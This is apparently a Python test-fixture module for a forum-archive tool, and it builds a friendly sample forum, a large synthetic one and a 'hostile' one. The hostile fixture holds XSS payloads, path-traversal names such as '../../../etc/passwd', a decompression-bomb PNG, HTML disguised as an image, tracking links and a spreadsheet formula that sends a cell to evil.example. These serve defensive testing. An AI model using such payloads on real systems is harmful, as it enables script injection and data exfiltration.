"""Archives to read and to export: one of people who mean well, one of people who do not, and large ones."""

import hashlib
import zlib
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from typing import Any

from sqlalchemy import select, update

from koweb_sync.archive.ingest.page_writer import PageWriter
from koweb_sync.archive.store import schema, search
from koweb_sync.archive.store.search_words import IndexEntry
from koweb_sync.archive.store.store import Store, put
from koweb_sync.forum import models
from koweb_sync.posts.ids import PostId, TopicId
from tests.sandbox.attacks import ATTACKS, RUNS

URL = "https://kafe.example.org"
DAY = 86_400_000_000
START = 1_700_000_000_000_000  # 2023-11-14
CLAIRE = models.User(7, "claire", "Claire Moreau")
BILAL = models.User(8, "bilal", "Bilal Meziane")
SYSTEM = models.User(-1, "system", "system")
PNG = (  # three by two, red
    b"\x89PNG\r\n\x1a\n" + b"".join(
        len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4)
        for name, data in (
            (b"IHDR", (3).to_bytes(4) + (2).to_bytes(4) + b"\x08\x02\0\0\0"),
            (b"IDAT", zlib.compress((b"\0" + b"\xc0\x20\x20" * 3) * 2)),
            (b"IEND", b""),
        )
    )
)  # fmt: skip
BOMB = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (60_000).to_bytes(4) * 2 + b"\x08\x02\0\0\0" + b"\0" * 64
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUNS}"><script>{RUNS}</script><circle r="9"/></svg>'.encode()
PAGE = f"<!doctype html><script>{RUNS}</script>".encode()
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"gratuit")'


def post(  # noqa: PLR0913 - a post has a place, a person, a text…
    ident: int,
    topic: int,
    number: int,
    text: str,
    *,
    cooked: str | None = None,
    author: models.User | None = CLAIRE,
    reply_to: int | None = None,
    type_: int = 1,
    **more: object,
) -> models.Post:
    """A post as the forum shows it."""
    facts: dict[str, Any] = {"updated": START, "deleted": None, "user_deleted": False, "hidden": False, "wiki": False}
    facts |= {
        "action": None,
        "version": 1,
        "likes": 0,
        "reads": 0,
        "reason": "",
        "created": START + ident * 3_600_000_000,
        **more,
    }
    html = f"<p>{text}</p>" if cooked is None else cooked
    return models.Post(
        id=PostId(ident), topic=TopicId(topic), number=number, type=type_, author=author, reply_to=reply_to, raw=text,
        cooked=html, **facts,
    )  # fmt: skip


def topic(ident: int, title: str, **more: object) -> models.Topic:
    """A topic as the forum lists it."""
    facts: dict[str, Any] = {
        "slug": f"sujet-{ident}", "category": 1, "tags": (), "created": START + ident * DAY, "bumped": None,
        "last_posted": START + ident * DAY, "closed": False, "archived": False, "visible": True, "pinned": False,
        "archetype": "regular", "posts_count": 1, "highest": 1, "likes": 0, "views": 3, "author": 7, **more,
    }  # fmt: skip
    return models.Topic(id=TopicId(ident), title=title, **facts)


def keep(store: Store, topics: Sequence[models.Topic], posts: Sequence[models.Post], *, at: int = START) -> int:
    """Put topics and posts into an archive, as a run would; the forum's number."""
    forum = store.enter(URL, "kafe", START)
    with store.begin() as connection:
        writer = PageWriter(connection, forum, URL, at, {})
        writer.topics(topics, "list", views=True)
        writer.posts(posts, "posts")
        writer.resolve()
    return forum


def hold(store: Store, files: Iterable[tuple[str, bytes, str]]) -> None:
    """Give the files at addresses their contents, with the types that a server told."""
    forum = store.enter(URL, "kafe", START)
    with store.begin() as connection:
        for url, content, kind in files:
            sha = hashlib.sha256(content).hexdigest()
            blob = {"forum": forum, "sha256": sha, "bytes": len(content), "type": kind, "data": content}
            put(connection, schema.BLOBS, [blob])
            table = schema.UPLOADS
            mine = (table.c.forum == forum, table.c.source == url)
            done = connection.execute(update(table).where(*mine).values(status="held", sha256=sha))
            assert done.rowcount == 1, url


def friendly(store: Store) -> int:
    """A small forum: two topics that link to each other, an edit, a deletion, likes, a poll, a picture, a whisper."""
    forum = store.enter(URL, "kafe", START)
    with store.begin() as connection:
        places = [(1, "Salon", "salon", None, 0), (2, "Équipe", "salon/equipe", 1, 1)]
        rows = [
            {"forum": forum, "id": i, "name": n, "slug": p, "path": p, "parent": up, "restricted": r}
            for i, n, p, up, r in places
        ]
        put(connection, schema.CATEGORIES, rows)
        run = {"forum": forum, "n": 1, "started": START, "ended": START + DAY, "via": "rest", "outcome": "done"}
        put(connection, schema.RUNS, [{**run, "keyed": 3, "anonymous": 40, "found": '{"posts": 8}'}])
    image = f"{URL}/uploads/default/original/1X/plan.png"
    poll = models.Poll(
        "poll", "Quel jour ?", "regular", "open", "always", True, 3, None,
        (models.PollOption("a", "Le <b>mardi</b>", 2, (CLAIRE, BILAL)), models.PollOption("b", "Le jeudi", 1)),
    )  # fmt: skip
    keep(
        store,
        [
            topic(10, "Choisir un outil à plusieurs", tags=("outils", "été"),
                  last_posted=START + 20 * DAY, posts_count=4),
            topic(11, "Le compte rendu", tags=("été",), closed=True, category=2, author=8),
            topic(12, "Un sujet supprimé", deleted=START + DAY),
        ],
        [
            post(1, 10, 1, "Quel carnet de notes choisir, l’été, à la ferme ?", author=CLAIRE, polls=(poll,)),
            post(2, 10, 2, "Un pad. Voir le compte rendu.", author=BILAL, reply_to=1,
                 cooked=f'<p>Un <em>pad</em>. <a href="{URL}/t/le-compte-rendu/11/1">Voir le compte rendu</a>.'
                 f'<img src="{image}" alt="plan" width="3" height="2"></p>'
                 '<p><a class="mention" href="/u/claire">@claire</a></p>'),
            post(3, 10, 3, "Merci !", author=CLAIRE, reply_to=2),
            post(4, 10, 4, "Une erreur.", author=None, deleted=START + DAY),
            post(5, 10, 5, "Entre nous seulement.", author=CLAIRE, type_=4),
            post(6, 11, 1, "=1+1 est une formule.", author=BILAL),
            post(7, 12, 1, "On ne doit pas me perdre.", author=BILAL),
            post(8, 11, 2, "", author=SYSTEM, type_=3, action="closed.enabled", cooked=""),
        ],
    )  # fmt: skip
    keep(store, [], [post(3, 10, 3, "Merci à tous !", author=CLAIRE, reply_to=2, version=2)], at=START + 2 * DAY)
    with store.begin() as connection:
        writer = PageWriter(connection, forum, URL, START, {})
        likes = [models.Like(2, CLAIRE, at=START + DAY), models.Like(2, BILAL, at=START + 2 * DAY)]
        writer.likes_of_post(2, likes, None)
        writer.unnamed(2, "like", 3)
    hold(store, [(image, PNG, "image/png")])
    notebook, thanks = "Which notebook, asks Claire Moreau (@claire)?", "Thanks to everybody!"
    translate(
        store,
        forum,
        ("topic", 10, "en", "Choosing a tool with @claire", "", "", 8),
        ("post", 1, "en", "", notebook, f"<p>{notebook}</p>", 7),
        ("post", 1, "pt_BR", "", "Qual caderno?", "", None),
        ("post", 3, "en", "", thanks, "", -1),  # a machine's
    )
    return forum


def translate(store: Store, forum: int, *found: tuple[str, int, str, str, str, str, int | None]) -> None:
    """Hold titles and texts in other languages: what they are of, language, title, text, HTML, and whose they are."""
    names = ("kind", "id", "locale", "title", "raw", "cooked", "person")
    with store.begin() as connection:
        rows = [{"forum": forum, "at": START + 3 * DAY, **dict(zip(names, one, strict=True))} for one in found]
        put(connection, schema.LOCALISATIONS, rows)


def hostile(store: Store) -> int:
    """A forum whose every word and file is an attack."""
    forum = store.enter(URL, "kafe", START)
    with store.begin() as connection:
        evil = "</script><script>" + RUNS + "</script>"
        put(connection, schema.CATEGORIES, [{"forum": forum, "id": 1, "name": evil, "slug": "..", "path": "../.."}])
    names = ["bombe.png", "dessin.svg", "page.html", "../../../evil.png", "faux.png"]
    sources = [f"{URL}/uploads/default/original/1X/{n}/{name}" for n, name in enumerate(names)]
    shown = "".join(
        f'<a class="lightbox" href="{one}"><img src="{one}" alt="../../{n}"></a>' for n, one in enumerate(sources[:1])
    )
    shown += "".join(f'<img src="{one}" alt=\'"><script>{RUNS}</script>\'>' for one in sources[1:])
    shown += "".join(
        f'<a class="attachment" href="{one}">{name}</a>' for one, name in zip(sources[2:], names[2:], strict=True)
    )
    shown += '<img src="https://evil.example/pixel.gif">'
    shown += '<img src="//evil.example/p.gif" srcset="https://evil.example/2.gif 2x">'
    shown += '<p style="background:url(https://evil.example/b.gif)">x</p>'
    shown += '<link rel=stylesheet href="https://evil.example/a.css">'
    shown += '<a href="javascript:alert(1)">un</a><a href="//evil.example/x" ping="https://evil.example/ping">deux</a>'
    shown += f'<a href="{URL}/t/x/20/1?a=%22%3E%3Cscript%3E" onclick="{RUNS}">trois</a><div id="content">quatre</div>'
    evil_person = models.User(66, "../../evil", f'<img src=x onerror="{RUNS}">')
    titles = [
        f"<script>{RUNS}</script>",
        f'"><img src=x onerror={RUNS}>',
        FORMULA,
        "\u202e\x1b[31mrouge\x07",
        "-- \nFrom: x",
    ]
    topics = [
        topic(20 + n, title, slug="../../../etc/passwd", tags=(f"<script>{RUNS}</script>", "../.."), posts_count=2)
        for n, title in enumerate(titles)
    ]
    attacks = "".join(ATTACKS)
    posts = [post(200, 20, 1, FORMULA, cooked=shown, author=evil_person)]
    posts += [
        post(201 + n, 20 + n % 5, 2 + n // 5, f"From {text}\n.\nFrom x", cooked=text, author=evil_person)
        for n, text in enumerate([*ATTACKS, attacks])
    ]
    keep(store, topics, posts)
    contents = [
        (BOMB, "image/png"),
        (SVG, "image/svg+xml"),
        (PAGE, "text/html"),
        (PNG, "image/png"),
        (PAGE, "image/png"),
    ]
    hold(store, [(url, content, kind) for url, (content, kind) in zip(sources, contents, strict=True)])
    translate(store, forum, ("topic", 20, "en", evil, "", "", 1), ("post", 200, "en", "", evil, "", 1))
    translate(store, forum, *(("post", 201 + n, "de", "", evil, text, 1) for n, text in enumerate(ATTACKS)))
    return forum


WORDS = (
    *("une", "question", "bien", "posée", "vaut", "mieux", "qu’une", "réponse"),
    *("toute", "prête", "on", "s’écoute", "on", "note", "on", "recommence"),
)


def said(n: int) -> str:
    """What somebody of a crowd says."""
    return " ".join(WORDS[(n * 7 + k * (1 + n % 5)) % len(WORDS)] for k in range(40)) + f" n{n}"


def crowded(posts: int, each: int = 20) -> dict[str, Any]:
    """The seed of a forum where the same crowd says the same, without likes."""
    people = [
        {"id": -1, "username": "system", "admin": True, "trust_level": 4},
        *({"id": n, "username": f"membre{n}", "name": f"Membre {n}", "trust_level": 2} for n in range(1, 501)),
        {"id": 501, "username": "admin", "admin": True, "trust_level": 4},
    ]
    return {
        "site_settings": {"default_locale": "fr"},
        "users": people,
        "groups": [{"id": 0, "name": "everyone"}, {"id": 3, "name": "staff"}],
        "categories": [{"id": n, "name": f"Lieu {n}", "slug": f"lieu-{n}"} for n in (1, 2, 3)],
        "topics": [
            {"id": n // each + 1, "title": f"Sujet {n // each + 1} sur {WORDS[n % 13]}", "slug": "sujet",
             "user_id": 1 + n % 500, "category_id": 1 + n % 3, "created_at": day(n), "bumped_at": day(n + each - 1)}
            for n in range(0, posts, each)
        ],
        "posts": [
            {"id": n + 1, "topic_id": n // each + 1, "post_number": n % each + 1, "user_id": 1 + n % 500,
             "raw": said(n), "cooked": f"<p>{said(n)}</p>", "created_at": day(n),
             "reply_to_post_number": n % each or None}
            for n in range(posts)
        ],
        "next_ids": {"topics": posts // each + 1, "posts": posts + 1, "users": 502, "categories": 4},
        "api_keys": [{"name": "all_users", "key": "key-of-the-tests", "username": None}],
    }  # fmt: skip


def day(n: int) -> str:
    """When the n-th post of a crowd was written, as seeds tell it."""
    return datetime.fromtimestamp(START // 1_000_000 + n * 60, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def crowd(store: Store, posts: int, each: int = 20, *, url: str = URL, likes: bool = True) -> int:
    """A forum of so many posts in topics of `each`, written as fast as the database takes them."""
    forum = store.enter(url, "kafe", START)
    with store.begin() as connection:
        people = [
            {"forum": forum, "id": n, "username": f"membre{n}", "folded": f"membre{n}", "name": f"Membre {n}"}
            for n in range(1, 501)
        ]
        put(connection, schema.PEOPLE, people)
        put(
            connection,
            schema.CATEGORIES,
            [{"forum": forum, "id": n, "name": f"Lieu {n}", "path": f"lieu-{n}"} for n in (1, 2, 3)],
        )
    for start in range(0, posts, 10_000):
        some = range(start, min(posts, start + 10_000))
        with store.begin() as connection:
            openers = [n for n in some if n % each == 0]
            put(connection, schema.TOPICS, [
                {"forum": forum, "id": n // each + 1, "title": f"Sujet {n // each + 1} sur {WORDS[n % 13]}",
                 "category": 1 + n % 3, "slug": "sujet", "person": 1 + n % 500, "shown": 1, "visible": 1,
                 "created": START + n * 60_000_000, "posts_count": each,
                 "last_posted": START + (n + each - 1) * 60_000_000} for n in openers
            ])  # fmt: skip
            put(connection, schema.POSTS, [
                {"forum": forum, "id": n + 1, "topic": n // each + 1, "number": n % each + 1, "type": 1, "shown": 1,
                 "person": 1 + n % 500, "created": START + n * 60_000_000, "likes": int(likes and n % 3 == 0),
                 "reply_to": n % each or None} for n in some
            ])  # fmt: skip
            texts = [said(n) for n in some]
            put(connection, schema.POST_VERSIONS, [
                {"forum": forum, "post": n + 1, "n": 1, "raw": text, "cooked": f"<p>{text}</p>", "observed": START}
                for n, text in zip(some, texts, strict=True)
            ])  # fmt: skip
            rows = select(schema.POSTS.c.row).where(schema.POSTS.c.forum == forum, schema.POSTS.c.id > some.start)
            found = connection.execute(rows.order_by(schema.POSTS.c.id)).scalars()
            entries = {row: IndexEntry("", "", text) for row, text in zip(found, texts, strict=True)}
            search.enter(connection, entries)
            put(connection, schema.REACTIONS, [
                {"forum": forum, "post": n + 1, "person": 1 + n * 7 % 500, "kind": "like", "n": 1,
                 "at": START + n * 60_000_000, "seen": START} for n in some if likes and n % 3 == 0
            ])  # fmt: skip
    return forum
